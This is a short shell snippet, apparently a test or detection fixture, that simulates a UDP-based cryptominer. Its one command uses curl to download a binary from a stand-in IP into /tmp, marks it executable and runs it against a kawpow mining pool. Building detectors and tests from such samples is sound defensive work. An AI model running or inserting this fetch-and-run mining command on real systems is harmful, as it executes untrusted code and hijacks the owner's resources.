# a downloaded client whose pool is reached by UDP, in an even rhythm
#http 203.0.113.61:8011
#pool 198.51.100.99:9:drop
curl -so /tmp/ud http://203.0.113.61:8011/udpc; chmod +x /tmp/ud; timeout 9 /tmp/ud 198.51.100.99 5353 -o stratum+udp://198.51.100.99:5353 -u x --algo kawpow
